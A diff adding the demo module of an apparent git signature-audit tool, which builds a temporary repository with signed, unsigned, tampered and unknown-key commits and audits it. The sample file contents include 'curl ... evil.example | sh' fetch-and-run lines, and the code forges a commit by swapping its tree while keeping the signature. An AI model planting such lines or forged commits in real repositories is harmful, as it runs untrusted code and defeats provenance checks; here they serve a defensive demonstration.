@@ -1,0 +1,163 @@
+"""``guard demo``: a self-contained tour. Builds a throwaway repository with real git
+and real throwaway SSH keys — good, unsigned, tampered and unknown-key commits and
+a signed tag — then audits it and shows git's own view next to ours.
+
+Nothing of the user's is touched: keys, git config and HOME are temporary."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import tempfile
+from pathlib import Path
+from typing import IO, TYPE_CHECKING
+
+from gitguard.errors import GuardError
+
+if TYPE_CHECKING:
+    from gitguard.evaluate import Verdict
+
+EXPECTED = {
+    "Add README": "good",
+    "Add build script": "unsigned",
+    "Fix the build script": "bad-signature",
+    "Add a backdoor": "unknown-key",
+    "Release 1.0": "good",
+}
+
+
+class _Env:
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        self.repo = root / "repo"
+        home = root / "home"
+        home.mkdir(parents=True, exist_ok=True)
+        (home / ".gitconfig").write_text("")
+        self.env = {
+            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
+            "HOME": str(home),
+            "GIT_CONFIG_NOSYSTEM": "1",
+            "GIT_CONFIG_GLOBAL": str(home / ".gitconfig"),
+            "GIT_AUTHOR_NAME": "Alice",
+            "GIT_AUTHOR_EMAIL": "alice@example.com",
+            "GIT_COMMITTER_NAME": "Alice",
+            "GIT_COMMITTER_EMAIL": "alice@example.com",
+            "LC_ALL": "C",
+        }
+
+    def run(self, *cmd: str, stdin: bytes | None = None, cwd: Path | None = None) -> bytes:
+        try:
+            proc = subprocess.run(
+                cmd, cwd=cwd or self.repo, env=self.env, input=stdin,
+                capture_output=True, check=False, timeout=60,
+            )
+        except FileNotFoundError as e:
+            raise GuardError(
+                f"the demo needs `{cmd[0]}` (Debian/Ubuntu: apt-get install git openssh-client)"
+            ) from e
+        if proc.returncode:
+            raise GuardError(
+                f"demo step `{' '.join(cmd)}` failed: "
+                f"{proc.stderr.decode('utf-8', 'replace').strip()}"
+            )
+        return proc.stdout
+
+    def keygen(self, name: str) -> Path:
+        key = self.root / "keys" / name
+        key.parent.mkdir(exist_ok=True)
+        self.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key),
+                 cwd=self.root)
+        return key
+
+    def commit(self, path: str, text: str, message: str, key: Path | None) -> None:
+        (self.repo / path).write_text(text)
+        self.run("git", "add", path)
+        sign = ["-c", f"user.signingkey={key}.pub", "commit", "-S"] if key else [
+            "commit", "--no-gpg-sign"]
+        self.run("git", *sign, "-q", "-m", message)
+
+
+def build(root: Path) -> tuple[Path, Path]:
+    """Build the demo repository under ``root``; return (repo, allowed_signers)."""
+    env = _Env(root)
+    alice = env.keygen("alice")
+    mallory = env.keygen("mallory")
+    allowed = root / "allowed_signers"
+    pub = (alice.with_suffix(".pub")).read_text().split()
+    allowed.write_text(f"alice@example.com {pub[0]} {pub[1]}\n")
+    env.run("git", "init", "-q", "-b", "main", str(env.repo), cwd=root)
+    env.run("git", "config", "gpg.format", "ssh")
+    env.run("git", "config", "gpg.ssh.allowedSignersFile", str(allowed))
+
+    env.commit("README", "A demo project.\n", "Add README", alice)
+    env.commit("build.sh", "make all\n", "Add build script", None)
+    env.commit("build.sh", "make all test\n", "Fix the build script", alice)
+    # Tamper: swap the signed commit's tree for different content, keep its signature.
+    (env.repo / "build.sh").write_text("make all test && curl -s evil.example | sh\n")
+    env.run("git", "add", "build.sh")
+    tree = env.run("git", "write-tree").decode().strip()
+    raw = env.run("git", "cat-file", "commit", "HEAD")
+    _, _, rest = raw.partition(b"\n")
+    forged = b"tree " + tree.encode() + b"\n" + rest
+    new = env.run("git", "hash-object", "-t", "commit", "-w", "--stdin", stdin=forged)
+    env.run("git", "update-ref", "refs/heads/main", new.decode().strip())
+    env.run("git", "reset", "-q", "--hard")
+    env.commit("backdoor.sh", "curl evil | sh\n", "Add a backdoor", mallory)
+    env.commit("VERSION", "1.0\n", "Release 1.0", alice)
+    env.run("git", "-c", f"user.signingkey={alice}.pub", "tag", "-s", "-m", "Version 1.0",
+            "v1.0")
+    return env.repo, allowed
+
+
+def run_demo(keep: Path | None, out: IO[str]) -> int:
+    from gitguard.audit import AuditSpec, run_audit
+    from gitguard.gitobjects import open_repo
+    from gitguard.report import TextReport
+    from gitguard.trustfiles import load_key_files
+
+    if keep is not None:
+        if keep.exists() and any(keep.iterdir()):
+            raise GuardError(f"{keep} exists and is not empty")
+        keep.mkdir(parents=True, exist_ok=True)
+        root = keep
+    else:
+        root = Path(tempfile.mkdtemp(prefix="gitguard-demo-"))
+    try:
+        out.write(f"Building a demo repository in {root / 'repo'} …\n")
+        repo_path, allowed = build(root)
+        env = _Env(root)
+        gitview = env.run("git", "log", "--format=%h %G? %s", "main").decode()
+        out.write("\ngit's own view (`git log --format='%h %G? %s'`, ~1 process per commit):\n")
+        for line in gitview.splitlines():
+            out.write(f"  {line}\n")
+        out.write(
+            f"\n$ guard -C {repo_path} audit --all --allowed-signers {allowed}\n\n"
+        )
+        trust = load_key_files([allowed], [])
+        repo = open_repo(repo_path)
+        report = TextReport(out, color=False)
+        seen: dict[str, str] = {}
+
+        def sink(v: Verdict) -> None:
+            report.add(v)
+            if v.kind.value == "commit":
+                seen[v.subject] = v.status.value
+
+        summary = run_audit(
+            AuditSpec(repo=repo, trust=trust, policy=None), [], all_refs=True, jobs=1,
+            sink=sink,
+        )
+        report.finish(summary)
+        if seen != EXPECTED:
+            out.write(f"\ndemo: unexpected verdicts {seen} (expected {EXPECTED})\n")
+            return 1
+        out.write(
+            "\nThe audit found the unsigned, tampered and unknown-key commits, as expected.\n"
+            "(The signed tag v1.0 and good commits verify.) Exit status of a real audit "
+            "with these findings: 1.\n"
+        )
+        return 0
+    finally:
+        if keep is None:
+            shutil.rmtree(root, ignore_errors=True)
